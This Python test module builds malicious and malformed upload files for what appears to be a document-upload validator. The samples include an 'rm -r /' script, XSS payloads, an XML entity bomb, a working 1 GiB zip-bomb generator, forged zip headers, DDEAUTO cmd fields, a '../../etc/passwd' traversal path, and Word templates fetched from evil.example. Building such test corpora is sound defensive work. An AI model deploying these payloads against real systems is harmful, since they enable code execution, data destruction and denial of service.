"""Files that must not be taken as they are, built here: each by the name of what is wrong with it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>{more}</Types>'
)
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def packed(parts: Mapping[str, bytes | str], *, stored: bool = False) -> bytes:
    """Return a zip of `parts` in their order."""
    out = io.BytesIO()
    way = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(out, "w", way) as package:
        for name, body in parts.items():
            package.writestr(name, body)
    return out.getvalue()


def docx(more: Mapping[str, bytes | str] | None = None, *, main: str = WORD, types: str = "") -> bytes:
    """Return a small Word document with further parts."""
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": TYPES.format(main=main, more=types),
        "word/document.xml": "<w:document xmlns:w='w'><w:body/></w:document>",
    }
    return packed({**parts, **(more or {})})


def relation(kind: str, target: str) -> dict[str, bytes | str]:
    """Return a relationship that leads outside."""
    body = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELS}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )
    return {"word/_rels/settings.xml.rels": body}


def png(width: int, height: int) -> bytes:
    """Return the head of a picture of that size."""
    head = struct.pack(">II5B", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + head + b"\x00" * 8


def lying(declared: int, body: bytes) -> bytes:
    """Return a docx of which one part is larger than both of its headers say."""
    whole = docx({"word/media/a.xml": body})
    real, said = struct.pack("<I", len(body)), struct.pack("<I", declared)
    return whole.replace(real, said)


def two_names() -> bytes:
    """Return a docx whose local header calls a part otherwise than the list does."""
    whole = docx({"word/aaaa.xml": "x"})
    at = whole.index(b"word/aaaa.xml")
    return whole[:at] + b"word/bbbb.xml" + whole[at + 13 :]


def overlapping() -> bytes:
    """Return a zip whose list names the same bytes many times."""
    whole = docx({"word/a.xml": b"0" * 2000, "word/b.xml": b"0" * 2000})
    start = whole.index(b"PK\x01\x02")
    entries = whole[start:].split(b"PK\x01\x02")[1:]
    first = entries[2][38:42]
    entries[3] = entries[3][:38] + first + entries[3][42:]
    return whole[:start] + b"".join(b"PK\x01\x02" + one for one in entries)


def gigabyte() -> bytes:
    """Return 1 GiB of noughts in about a megabyte, as a part of a docx."""
    packing = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    piece, size, crc = bytes(2**20), 2**30, 0
    body = bytearray()
    for _ in range(2**10):
        body += packing.compress(piece)
        crc = zlib.crc32(piece, crc)
    body += packing.flush()
    name = b"word/media/zero.xml"
    fields = (20, 0, 8, 0, 33, crc, len(body), size, len(name), 0)
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", *fields) + name + body
    listed = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0, 0) + name
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(listed), len(local), 0)
    return local + listed + end


BILLION = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><Types>&c;</Types>'
)

HOSTILE: Mapping[str, tuple[str, bytes, str]] = {
    "an empty file": ("a.pdf", b"", "empty"),
    "a page called pdf": ("a.pdf", b"<html><script>alert(1)</script></html>", "markup"),
    "a page behind blanks": ("a.pdf", b"\xef\xbb\xbf \n<!DOCTYPE html><p>", "markup"),
    "a page in UTF-16": ("a.txt", "<html>".encode("utf-16"), "markup"),
    "a page after a text": ("a.csv", b"a;b\n<script>alert(1)</script>", "markup"),
    "a drawing": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "markup"),
    "a drawing called png": ("a.png", b"<?xml version='1.0'?><svg/>", "markup"),
    "rich text": ("a.doc", b"{\\rtf1 \\object}", "markup"),
    "a program": ("a.pdf", b"MZ\x90\x00" + bytes(60), "program"),
    "a program of Linux": ("a.docx", b"\x7fELF" + bytes(60), "program"),
    "a script": ("a.txt", b"#!/bin/sh\nrm -r /\n", "program"),
    "an archive": ("a.zip", packed({"a.pdf": b"%PDF-1.4"}), "archive"),
    "an archive called docx": ("a.docx", packed({"a.pdf": b"%PDF-1.4"}), "archive"),
    "an empty archive": ("a.zip", packed({}), "archive"),
    "a rar": ("a.rar", b"Rar!\x1a\x07\x00" + bytes(30), "archive"),
    "a gzip": ("a.svgz", b"\x1f\x8b\x08" + bytes(30), "archive"),
    "a tar": ("a.pdf", bytes(257) + b"ustar\x0000" + bytes(200), "archive"),
    "an old Word file": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "old-office"),
    "a docm": ("a.docm", docx(main=MACRO), "macros"),
    "a docm called docx": ("a.docx", docx(main=MACRO), "macros"),
    "a macro in a docx": ("a.docx", docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 vba"}), "macros"),
    "a declared macro": (
        "a.docx",
        docx(
            types='<Override PartName="/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        "macros",
    ),
    "a macro sheet": ("a.xlsx", docx({"xl/macrosheets/sheet1.xml": "<a/>"}, main=SHEET), "macros"),
    "a macro in an odt": (
        "a.odt",
        packed(
            {"mimetype": "application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml": "<a/>"},
            stored=True,
        ),
        "macros",
    ),
    "an object": ("a.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), "embedded"),
    "an object under another name": (
        "a.docx",
        docx({"word/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1"}),
        "embedded",
    ),
    "an archive inside": ("a.docx", docx({"word/media/a.png": packed({"b": "c"})}), "embedded"),
    "a program inside": ("a.docx", docx({"word/media/a.png": b"MZ\x90"}), "embedded"),
    "a template from outside": (
        "a.docx",
        docx(relation("attachedTemplate", "https://evil.example/t.dotm")),
        "template",
    ),
    "an object from outside": ("a.docx", docx(relation("oleObject", "https://evil.example/o")), "outside"),
    "a frame from outside": ("a.docx", docx(relation("frame", "https://evil.example/o")), "outside"),
    "a field that fetches": (
        "a.docx",
        docx({"word/footer1.xml": '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd </w:instrText>'}),
        "outside",
    ),
    "a field in two pieces": (
        "a.docx",
        docx({"word/a.xml": "<w:instrText>DDE</w:instrText><w:instrText>AUTO x</w:instrText>"}),
        "outside",
    ),
    "a link that fetches": (
        "a.xlsx",
        docx({"xl/externalLinks/externalLink1.xml": "<ddeLink ddeService='cmd'/>"}, main=SHEET),
        "outside",
    ),
    "an entity bomb": ("a.docx", docx({"word/document2.xml": BILLION}), "entities"),
    "an entity bomb in the list of types": ("a.docx", packed({"[Content_Types].xml": BILLION}), "entities"),
    "an entity bomb in UTF-16": (
        "a.docx",
        docx({"word/document2.xml": BILLION.encode("utf-16")}),
        "entities",
    ),
    "a gibibyte of noughts": ("a.docx", gigabyte(), "bomb"),
    "a part that swells": ("a.docx", docx({"word/media/a.xml": bytes(2 * 2**20)}), "bomb"),
    "a part larger than declared": ("a.docx", lying(100, bytes(500_000)), "bomb"),
    "a part smaller than declared": ("a.docx", lying(900_000, bytes(500_000)), "lying"),
    "too many parts": ("a.docx", docx({f"word/{number}.xml": "" for number in range(2001)}), "bomb"),
    "two names for a part": ("a.docx", two_names(), "lying"),
    "overlapping parts": ("a.docx", overlapping(), "lying"),
    "a part that climbs": ("a.docx", docx({"../../etc/passwd": "x"}), "lying"),
    "half a docx": ("a.docx", docx()[:-30], "broken"),
    "a docx without a list": ("a.docx", b"PK\x03\x04" + bytes(100), "broken"),
    "an unknown package": (
        "a.docx",
        packed({"[Content_Types].xml": TYPES.format(main="x", more="")}),
        "kind",
    ),
    "a drawing of OpenDocument": (
        "a.odg",
        packed({"mimetype": "application/vnd.oasis.opendocument.graphics"}, stored=True),
        "kind",
    ),
    "a picture beyond measure": ("a.png", png(60_000, 60_000), "picture"),
    "half a picture": ("a.jpg", b"\xff\xd8\xff\xe0", "broken"),
    "noise": ("a.pdf", bytes(range(256)), "kind"),
    "a text with NUL": ("a.txt", b"abc\x00def", "kind"),
    "a film": ("a.mp4", b"\x00\x00\x00\x18ftypmp42" + bytes(20), "kind"),
}
"""By what is wrong: the name it comes under, its bytes, and the rule that refuses it."""
